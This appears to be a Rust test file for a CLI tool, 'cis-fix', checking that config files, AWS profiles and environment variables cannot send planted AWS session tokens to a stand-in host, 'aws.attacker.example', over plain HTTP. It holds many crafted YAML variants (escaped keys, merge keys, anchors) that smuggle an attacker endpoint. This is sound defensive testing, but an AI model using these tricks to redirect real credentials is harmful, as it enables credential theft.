//! A file or a variable sends the credentials of a run elsewhere: a pull request brings a `cis-fix.yaml` along, or an
//! endpoint does without TLS. A proxy of the test stands for the network: what it hears, an attacker could hear.
#![cfg(feature = "cli")]

use std::fs;
use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::mpsc::{Receiver, channel};
use std::thread;
use std::time::Duration;

const TOKEN: &str = "IQoJb3JpZ2luX2VjPLANTEDTOKEN";
const ELSEWHERE: &str = "http://aws.attacker.example:4566";

/// A folder of one test, as working directory and as home.
fn folder(name: &str) -> PathBuf {
    let folder = Path::new(env!("CARGO_TARGET_TMPDIR"))
        .join("stolen-credentials")
        .join(name);
    let _ = fs::remove_dir_all(&folder);
    fs::create_dir_all(&folder).unwrap();
    folder
}

/// A proxy that keeps what it hears and answers each request with an error.
fn listen() -> (String, Receiver<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("http://{}", listener.local_addr().unwrap());
    let (heard, hears) = channel();
    thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            let _ = stream.set_read_timeout(Some(Duration::from_millis(200)));
            let mut bytes = vec![0; 65536];
            let read = stream.read(&mut bytes).unwrap_or(0);
            let text = String::from_utf8_lossy(bytes.get(..read).unwrap_or_default());
            if heard.send(text.into_owned()).is_err() {
                return;
            }
            let _ = stream.write_all(
                b"HTTP/1.1 400 Bad Request\r\ncontent-length: 0\r\nconnection: close\r\n\r\n",
            );
        }
    });
    (address, hears)
}

/// Runs the program in a folder, with a session token in its environment.
fn run(folder: &Path, proxy: &str, words: &str, variables: &[(&str, &str)]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_cis-fix"));
    command
        .args(words.split_whitespace())
        .current_dir(folder)
        .env_clear();
    command.envs([
        ("HOME", folder.to_str().unwrap()),
        ("HTTP_PROXY", proxy),
        ("AWS_REGION", "us-east-1"),
        ("AWS_EC2_METADATA_DISABLED", "true"),
        ("AWS_ACCESS_KEY_ID", "AKIAPLANTED"),
        ("AWS_SECRET_ACCESS_KEY", "planted"),
        ("AWS_SESSION_TOKEN", TOKEN),
    ]);
    command.envs(variables.iter().copied()).output().unwrap()
}

fn heard(hears: &Receiver<String>) -> String {
    thread::sleep(Duration::from_millis(20));
    hears.try_iter().collect()
}

fn words_of(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

#[test]
fn a_settings_file_that_was_found_chooses_no_identity_and_no_endpoint() {
    let folder = folder("found");
    let (proxy, hears) = listen();
    let texts = [
        format!("endpoint_url: {ELSEWHERE}\n"),
        "endpoint_url: https://aws.attacker.example\n".to_owned(),
        "profile: production\n".to_owned(),
        format!("\"endpoint_url\": {ELSEWHERE}\n"),
        format!("'endpoint_url': {ELSEWHERE}\n"),
        format!("\"endpoint\\u005furl\": {ELSEWHERE}\n"),
        format!("? endpoint_url\n: {ELSEWHERE}\n"),
        format!("{{benchmark: '1.2.0', endpoint_url: '{ELSEWHERE}'}}\n"),
        format!("---\nregion: us-east-1\r\nendpoint_url: {ELSEWHERE}\r\n"),
        format!("\u{feff}endpoint_url: {ELSEWHERE}\n"),
        format!("<<: {{endpoint_url: '{ELSEWHERE}'}}\n"),
        format!("tags: &a {{endpoint_url: '{ELSEWHERE}'}}\n<<: *a\n"),
        format!("endpoint_url: &a {ELSEWHERE}\ntopic: *a\n"),
        "endpoint_url: !!str http://aws.attacker.example\n".to_owned(),
        "endpoint_url: ~\nprofile: production\n".to_owned(),
        format!("--- {{}}\n---\nendpoint_url: {ELSEWHERE}\n"),
    ];
    for (number, text) in texts.into_iter().enumerate() {
        fs::write(folder.join("cis-fix.yaml"), &text).unwrap();
        let commands = [
            "check",
            "plan -q",
            "apply --yes --endpoint-url https://127.0.0.1:9 --profile mine",
            "verify --insecure-endpoint",
            "observe --out -",
        ];
        let all = if number < 2 { commands.len() } else { 1 };
        for words in &commands[..all] {
            let output = run(&folder, &proxy, words, &[]);
            let said = words_of(&output);
            assert_eq!(output.status.code(), Some(64), "{words}: {text}{said}");
            assert!(said.contains("cis-fix.yaml:"), "{words}: {text}{said}");
        }
    }
    assert_eq!(heard(&hears), "");
}

#[test]
fn a_settings_file_that_was_named_is_said_first() {
    let folder = folder("named");
    let (proxy, _hears) = listen();
    let text = "profile: production\nendpoint_url: https://planted:word@127.0.0.1:9\n";
    fs::write(folder.join("cis-fix.yaml"), text).unwrap();
    fs::create_dir(folder.join(".aws")).unwrap();
    let profile = "[profile production]\naws_access_key_id = A\naws_secret_access_key = B\n";
    fs::write(folder.join(".aws/config"), profile).unwrap();
    let first = "cis-fix.yaml decides where credentials go: profile production, endpoint_url https://...@127.0.0.1:9.";
    for words in [
        "check",
        "plan -q",
        "apply --yes -v",
        "verify -vv",
        "check --format json",
    ] {
        let words = format!("{words} --config cis-fix.yaml --max-attempts 1");
        let output = run(&folder, &proxy, &words, &[]);
        let said = words_of(&output);
        assert_eq!(said.lines().next(), Some(first), "{words}");
        assert!(!said.contains("planted"), "{said}");
    }
    let offline = run(&folder, &proxy, "list --config cis-fix.yaml", &[]);
    assert!(offline.status.success(), "{}", words_of(&offline));
    assert_eq!(words_of(&offline), "");
}

/// The words, the variables, `cis-fix.yaml` and `.aws/config`.
type Way = (String, Vec<(&'static str, &'static str)>, String, String);

/// Every way in which an endpoint reaches the SDK.
fn ways() -> Vec<Way> {
    let keys = "aws_access_key_id = A\naws_secret_access_key = B\n";
    let keys = format!("{keys}aws_session_token = {TOKEN}\n");
    let services = format!("services = all\n[services all]\nsts =\n  endpoint_url = {ELSEWHERE}\n");
    let role =
        "role_arn = arn:aws:iam::111122223333:role/r\nsource_profile = base\n[profile base]\n";
    // The credentials' own call to STS: its client ignores the setting that ignores endpoints.
    let ignored = vec![
        ("AWS_IGNORE_CONFIGURED_ENDPOINT_URLS", "true"),
        ("AWS_ENDPOINT_URL_STS", ELSEWHERE),
    ];
    let flag = |url: &str| format!("check --endpoint-url {url}");
    let settings = format!("endpoint_url: {ELSEWHERE}\n");
    let rows = [
        (flag(ELSEWHERE), vec![], String::new(), String::new()),
        (
            flag("HTTP://127.0.0.1@aws.attacker.example"),
            vec![],
            String::new(),
            String::new(),
        ),
        (
            "check --config cis-fix.yaml".to_owned(),
            vec![],
            settings,
            String::new(),
        ),
        (
            "check".to_owned(),
            vec![],
            String::new(),
            format!("[default]\nendpoint_url = {ELSEWHERE}\n"),
        ),
        (
            "check --profile work".to_owned(),
            vec![],
            String::new(),
            format!("[profile work]\n{keys}{services}"),
        ),
        (
            "check --profile work".to_owned(),
            ignored,
            String::new(),
            format!("[profile work]\n{role}{keys}"),
        ),
    ];
    rows.into_iter().chain(VARIABLES.map(of_variable)).collect()
}

const VARIABLES: [&str; 10] = [
    "AWS_ENDPOINT_URL",
    "AWS_ENDPOINT_URL_STS",
    "AWS_ENDPOINT_URL_CLOUDTRAIL",
    "AWS_ENDPOINT_URL_CLOUDWATCH",
    "AWS_ENDPOINT_URL_CLOUDWATCH_LOGS",
    "AWS_ENDPOINT_URL_KMS",
    "AWS_ENDPOINT_URL_LAMBDA",
    "AWS_ENDPOINT_URL_S3",
    "AWS_ENDPOINT_URL_SNS",
    "AWS_ENDPOINT_URL_SQS",
];

fn of_variable(name: &'static str) -> Way {
    let variables = vec![(name, ELSEWHERE)];
    ("check".to_owned(), variables, String::new(), String::new())
}

#[test]
fn no_request_leaves_this_machine_without_tls_unless_that_is_said() {
    let folder = folder("plain");
    let (proxy, hears) = listen();
    fs::create_dir(folder.join(".aws")).unwrap();
    for (number, (words, variables, settings, profiles)) in ways().into_iter().enumerate() {
        fs::write(folder.join("cis-fix.yaml"), &settings).unwrap();
        fs::write(folder.join(".aws/config"), &profiles).unwrap();
        let output = run(&folder, &proxy, &words, &variables);
        let said = words_of(&output);
        assert_eq!(
            output.status.code(),
            Some(1),
            "{words} {variables:?}: {said}"
        );
        assert!(
            said.contains("--insecure-endpoint"),
            "{words} {variables:?}: {said}"
        );
        assert!(
            said.contains("aws.attacker.example"),
            "{words} {variables:?}: {said}"
        );
        assert_eq!(heard(&hears), "", "{words} {variables:?}");
        // The same run gives the token away where that is allowed, so the silence above means something.
        if number == 0 || number == 5 {
            let words = format!("{words} --insecure-endpoint --max-attempts 1");
            let _ = run(&folder, &proxy, &words, &variables);
            assert!(heard(&hears).contains(TOKEN), "{words} {variables:?}");
        }
    }
}
